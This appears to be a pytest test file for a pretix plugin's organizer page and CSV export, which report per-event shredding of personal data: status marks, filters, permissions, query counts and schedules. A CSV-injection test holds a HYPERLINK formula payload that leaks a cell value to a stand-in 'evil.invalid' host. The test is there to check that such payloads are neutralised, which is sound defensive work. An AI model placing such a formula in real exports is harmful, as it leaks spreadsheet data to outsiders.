"""The organizer page "Personal data by event" and its CSV: shreds through the API and pretix's control panel,
marks for events that are over but not (fully) shredded, filter, sorting, permissions, constant queries."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils.timezone import now
from pretix.base.models import CachedFile, Team, User
from pretix.base.services.shredder import export as pretix_export
from pretix.base.services.shredder import shred as pretix_shred

from .conftest import make_event, make_order
from .helpers import job_url, start_export

pytestmark = pytest.mark.django_db

PAGE = "/control/organizer/bigevents/shredder-api/"
CSV = "/control/organizer/bigevents/shredder-api/overview.csv"
PASSWORD = "secret-password-123"
ALL_SHREDDERS = None  # filled per event from its registry


def login(email):
    c = Client()
    assert c.login(email=email, password=PASSWORD)
    return c


def member(organizer, email, events=None, **permissions):
    team = Team.objects.create(organizer=organizer, name=email, all_events=events is None, **permissions)
    if events:
        team.limit_events.add(*events)
    team.members.add(User.objects.create_user(email, PASSWORD))
    return login(email)


@pytest.fixture
def admin(user):
    return login("admin@example.org")


def shred_through_control_panel(event, user, shredders):
    """pretix's own export and shred tasks, as its control panel runs them (eagerly here)."""
    cf = CachedFile.objects.create(date=now(), expires=now() + timedelta(hours=1), filename="x.zip")
    pretix_export.apply(args=(event.pk, shredders, "session", str(cf.pk)))
    pretix_shred.apply(kwargs={"event": event.pk, "fileid": str(cf.pk), "confirm_code": True, "user": user.pk})


@pytest.fixture
def landscape(organizer, event, item, client, user):
    """sampleconf: shredded through the API with every shredder; partial: only order_emails through pretix's control
    panel; never: over, never shredded; future: not over; live: over, shop online, never shredded."""
    make_order(event, item, "ORD1", "b1@example.org")
    everything = sorted(event.get_data_shredders())
    job = start_export(client, f"/api/v1/organizers/bigevents/events/{event.slug}/shredders/", everything)
    assert client.post(job_url(job, "shred"), format="json").status_code == 202

    partial = make_event(organizer, slug="partial", name="Partial", date_from=now() - timedelta(days=20))
    shred_through_control_panel(partial, user, ["order_emails"])
    make_event(organizer, slug="never", name="Never", date_from=now() - timedelta(days=10))
    make_event(organizer, slug="future", name="Future", date_from=now() + timedelta(days=10))
    make_event(organizer, slug="live", name="Live", date_from=now() - timedelta(days=5), live=True)
    return {"everything": everything}


def table_rows(html):
    table = html[html.index('id="shredder-api-overview"') :]
    return [
        (chunk.split('"')[1], chunk.split('data-status="')[1].split('"')[0])
        for chunk in table.split("<tr data-event=")[1:]
    ]


def test_page_lists_every_event_with_its_last_shred_and_marks(admin, landscape):
    resp = admin.get(PAGE)
    assert resp.status_code == 200
    html = resp.content.decode()
    assert table_rows(html) == [
        ("future", "not_over"),
        ("live", "never"),
        ("never", "never"),
        ("partial", "partial"),
        ("sampleconf", "done"),
    ]
    rows = html.split("<tr data-event=")
    sampleconf = next(r for r in rows if r.startswith('"sampleconf"'))
    assert "API token “GDPR tooling” of team “Team”" in sampleconf and "(API)" in sampleconf
    assert "Attendee info" in sampleconf and "Emails" in sampleconf
    partial = next(r for r in rows if r.startswith('"partial"'))
    assert 'class="danger"' in partial and "Over, shredded only partly" in partial
    assert "admin@example.org" in partial and "(control panel)" in partial
    assert "Never shredded with: Attendee info, Cached ticket files" in partial
    never = next(r for r in rows if r.startswith('"never"'))
    assert 'class="danger"' in never and "Over, never shredded" in never
    live = next(r for r in rows if r.startswith('"live"'))
    assert "online" in live
    future = next(r for r in rows if r.startswith('"future"'))
    assert 'class="danger"' not in future and "Not over yet" in future


def test_filter_over_and_not_shredded(admin, landscape):
    html = admin.get(PAGE + "?filter=unshredded").content.decode()
    assert table_rows(html) == [("live", "never"), ("never", "never")]


def test_sorting_by_end_date(admin, landscape):
    ascending = [slug for slug, _ in table_rows(admin.get(PAGE + "?ordering=end").content.decode())]
    assert ascending == ["sampleconf", "partial", "never", "live", "future"]
    unknown = [slug for slug, _ in table_rows(admin.get(PAGE + "?ordering=bogus").content.decode())]
    assert unknown == list(reversed(ascending))


def test_event_series_end_with_their_last_date(admin, organizer, landscape):
    series = make_event(organizer, slug="series", name="Series", date_from=now() - timedelta(days=60))
    series.has_subevents = True
    series.save()
    series.subevents.create(name="Early", date_from=now() - timedelta(days=60))
    series.subevents.create(name="Late", date_from=now() + timedelta(days=3))
    rows = dict(table_rows(admin.get(PAGE).content.decode()))
    assert rows["series"] == "not_over"


def test_csv_has_the_same_rows(admin, landscape):
    resp = admin.get(CSV + "?filter=unshredded&ordering=end")
    assert resp.status_code == 200
    assert resp["Content-Type"] == "text/csv; charset=utf-8"
    assert resp["Content-Disposition"] == 'attachment; filename="personal-data-bigevents.csv"'
    assert resp.content.startswith("\ufeff".encode())  # a BOM: Excel reads the file as UTF-8
    table = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert table[0] == [
        "Event",
        "Event name",
        "End date",
        "Shop",
        "Over",
        "Status",
        "Last shred",
        "Shredded by",
        "Data shredders",
        "Through",
        "Never shredded with",
        "Kept as pretix advises (tax-relevant)",
        "Scheduled shred",
        "Schedule state",
    ]
    assert [(r[0], r[1], r[3], r[4], r[5]) for r in table[1:]] == [
        ("never", "Never", "offline", "yes", "Over, never shredded"),
        ("live", "Live", "online", "yes", "Over, never shredded"),
    ]

    full = list(csv.reader(io.StringIO(admin.get(CSV).content.decode("utf-8-sig"))))
    partial = next(r for r in full if r[0] == "partial")
    assert partial[5:10] == [
        "Over, shredded only partly",
        partial[6],
        "admin@example.org",
        "Emails",
        "control panel",
    ]
    assert partial[6].startswith(str(now().year))
    assert "Attendee info" in partial[10] and "Emails" not in partial[10]
    sampleconf = next(r for r in full if r[0] == "sampleconf")
    assert sampleconf[5] == "Shredded" and sampleconf[9] == "API" and sampleconf[10] == ""


# -- permissions ----------------------------------------------------------------------------------------------------


def test_only_events_whose_orders_the_user_may_view(organizer, landscape):
    from pretix.base.models import Event

    partial, never = Event.objects.get(slug="partial"), Event.objects.get(slug="never")
    limited = member(organizer, "limited@example.org", events=[partial, never], all_event_permissions=True)
    assert [s for s, _ in table_rows(limited.get(PAGE).content.decode())] == ["never", "partial"]
    csv_slugs = [r[0] for r in csv.reader(io.StringIO(limited.get(CSV).content.decode()))][1:]
    assert csv_slugs == ["never", "partial"]

    no_orders = member(
        organizer, "settings@example.org", limit_event_permissions={"event.settings.general:write": True}
    )
    html = no_orders.get(PAGE).content.decode()
    assert "No events match." in html and "sampleconf" not in html
    assert list(csv.reader(io.StringIO(no_orders.get(CSV).content.decode())))[1:] == []


def test_other_organizers_and_anonymous_users_get_nothing(other_organizer, landscape):
    foreigner = member(other_organizer, "foreign@example.org", all_event_permissions=True)
    for url in (PAGE, CSV):
        resp = foreigner.get(url)
        assert resp.status_code == 404
        assert b"sampleconf" not in resp.content
        anonymous = Client().get(url)
        assert anonymous.status_code == 302 and anonymous["Location"].startswith("/control/login")


def test_organizer_navigation_entry(admin, landscape):
    assert PAGE in admin.get("/control/organizer/bigevents/").content.decode()


# -- cost -----------------------------------------------------------------------------------------------------------


def page_queries(client, url):
    with CaptureQueriesContext(connection) as ctx:
        resp = client.get(url)
    assert resp.status_code == 200
    return len(ctx.captured_queries)


def test_queries_per_page_do_not_grow_with_events_or_shreds(admin, organizer, user, landscape):
    # warm up caches (content types, settings) that are filled once per process
    page_queries(admin, PAGE)
    page_queries(admin, CSV)
    small = (page_queries(admin, PAGE), page_queries(admin, CSV))
    for i in range(12):
        ev = make_event(organizer, slug=f"bulk{i}", name=f"Bulk {i}", date_from=now() - timedelta(days=40 + i))
        if i % 3 == 0:
            shred_through_control_panel(ev, user, ["order_emails"])
            shred_through_control_panel(ev, user, ["attendee_info"])
        if i % 2 == 0:  # schedules (and their history) are read in one query too
            schedule(ev, days=i, state="cancelled")
            schedule(ev, days=i + 1, state="failed" if i % 4 else "noticed")
    large = (page_queries(admin, PAGE), page_queries(admin, CSV))
    assert small == large, (small, large)


# -- schedules, the one meaning of red (issue 22 items 2, 6), the CSV formats (item 10) -------------------------------


def schedule(event, days=3, state="noticed", shredders=("order_emails", "attendee_info"), error=""):
    from pretix_shredder_api.models import ScheduledShred

    return ScheduledShred.objects.create(
        event=event,
        state=state,
        due=now() + timedelta(days=days),
        notice_at=now() - timedelta(days=1),
        shredders=list(shredders),
        last_error=error,
    )


def row_html(html, slug):
    return next(r for r in html.split("<tr data-event=") if r.startswith(f'"{slug}"'))


def test_an_event_shredded_as_pretix_recommends_is_not_red(admin, organizer, user):
    """Every shredder but the tax-relevant ones (invoices, invoice addresses, payment data): pretix advises keeping
    those for a tax audit, so the event is done - and the page says what was kept."""
    kept = make_event(organizer, slug="kept", name="Kept", date_from=now() - timedelta(days=20))
    known = kept.get_data_shredders()
    tax = sorted(i for i, s in known.items() if s.tax_relevant)
    assert {"invoices", "invoice_addresses", "payment_info"} <= set(tax)
    shred_through_control_panel(kept, user, sorted(i for i in known if i not in tax))
    html = admin.get(PAGE).content.decode()
    row = row_html(html, "kept")
    assert 'data-status="done"' in row and 'class="danger"' not in row
    assert "Kept as pretix advises (tax-relevant):" in row and "Invoices" in row
    assert "Never shredded with" not in row


def test_schedules_are_shown_and_a_failed_one_is_red(admin, organizer, landscape):
    due = make_event(organizer, slug="due", name="Due", date_from=now() - timedelta(days=40))
    schedule(due, days=2, shredders=sorted(due.get_data_shredders()))
    later = make_event(organizer, slug="later", name="Later", date_from=now() - timedelta(days=40))
    schedule(later, days=30, shredders=sorted(later.get_data_shredders()))
    broken = make_event(organizer, slug="broken", name="Broken", date_from=now() - timedelta(days=40))
    schedule(broken, days=1, state="failed", error="Your ticket shop needs to be offline.")
    html = admin.get(PAGE).content.decode()
    row = row_html(html, "due")
    # over and never shredded, but the schedule will shred it: not red, and the schedule is shown with its date
    assert 'data-status="scheduled"' in row and 'class="danger"' not in row
    assert 'data-schedule="noticed"' in row and "notice sent" in row and "due " in row
    assert 'href="/control/event/bigevents/due/shredder-api/retention/"' in row
    assert "Emails" in row and "order_emails" not in row
    row = row_html(html, "broken")
    assert 'data-status="schedule_failed"' in row and 'class="danger"' in row
    assert "Over, scheduled shred failed" in row and "Your ticket shop needs to be offline." in row
    # the filter "due in the next 14 days"
    soon = table_rows(admin.get(PAGE + "?filter=due_soon").content.decode())
    assert sorted(slug for slug, _ in soon) == ["broken", "due"]
    assert "Shred due in the next 14 days" in html


def test_a_failure_stored_as_a_key_is_rendered_in_words(admin, organizer):
    from pretix_shredder_api import reasons

    broken = make_event(organizer, slug="broken", name="Broken", date_from=now() - timedelta(days=40))
    schedule(broken, days=1, state="failed", error=reasons.key("shop_online"))
    row = row_html(admin.get(PAGE).content.decode(), "broken")
    assert "reason:" not in row and "shop_online" not in row
    assert "The ticket shop of this event is online" in row and "Take the shop offline." in row


def test_a_schedule_covering_only_some_shredders_leaves_the_rest_red(admin, organizer):
    ev = make_event(organizer, slug="some", name="Some", date_from=now() - timedelta(days=40))
    schedule(ev, days=5, shredders=["order_emails"])
    row = row_html(admin.get(PAGE).content.decode(), "some")
    assert 'class="danger"' in row and 'data-status="never"' in row
    assert "Attendee info" in row


def test_csv_with_semicolons_and_schedule_columns(admin, organizer, landscape):
    due = make_event(organizer, slug="due", name="Due; the festival", date_from=now() - timedelta(days=40))
    schedule(due, days=2)
    resp = admin.get(CSV + "?format=semicolon")
    assert resp.status_code == 200 and resp.content.startswith("\ufeff".encode())
    text = resp.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Event;Event name;End date;")
    rows = {r[0]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
    assert rows["due"][1] == "Due; the festival"
    assert rows["due"][-2].startswith(str((now() + timedelta(days=2)).year)) and rows["due"][-1] == "notice sent"
    html = admin.get(PAGE).content.decode()
    assert "CSV (with semicolons)" in html and "format=semicolon" in html and "CSV (with commas)" in html


# -- CSV injection (finding 19.6): every cell a spreadsheet would run as a formula gets a leading ' (OWASP) -----------

FORMULAS = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"x")', "+1", "-1", "@x", "\tx", "\rx"]


def test_csv_neutralises_formulas_in_event_names_and_shredded_by(admin, organizer, user):
    for i, payload in enumerate(FORMULAS):
        event = make_event(organizer, slug=f"evil{i}", name=payload, date_from=now() - timedelta(days=20 + i))
        shredded_by = User.objects.create(email=payload)  # pretix stores e-mail addresses lower-cased
        event.log_action(
            "pretix.event.shredder.completed", user=shredded_by, data={"indexdata": {"shredders": ["order_emails"]}}
        )
    table = list(csv.reader(io.StringIO(admin.get(CSV).content.decode(), newline="")))
    rows = {r[0]: r for r in table[1:]}
    for i, payload in enumerate(FORMULAS):
        name, shredded_by = rows[f"evil{i}"][1], rows[f"evil{i}"][7]
        assert (name, shredded_by) == ("'" + payload, "'" + payload.lower())
    # harmless cells are left alone (dates start with a digit, words with a letter)
    assert rows["evil0"][2][0].isdigit() and rows["evil0"][5] == "Over, shredded only partly"


@pytest.mark.parametrize(
    "value, cell",
    [
        *[(payload, "'" + payload) for payload in FORMULAS],
        ("Sample Conference", "Sample Conference"),
        ("2026-12-03T06:39:12+00:00", "2026-12-03T06:39:12+00:00"),
        (" =1", " =1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_neutralise(value, cell):
    from pretix_shredder_api.csvcells import neutralise

    assert neutralise(value) == cell


def test_every_csv_of_the_plugin_is_written_through_csvcells():
    """One helper, used everywhere: no module but ``csvcells`` writes CSV itself."""
    from pathlib import Path

    import pretix_shredder_api

    root = Path(pretix_shredder_api.__file__).parent
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    )
    assert writers == ["csvcells.py"]
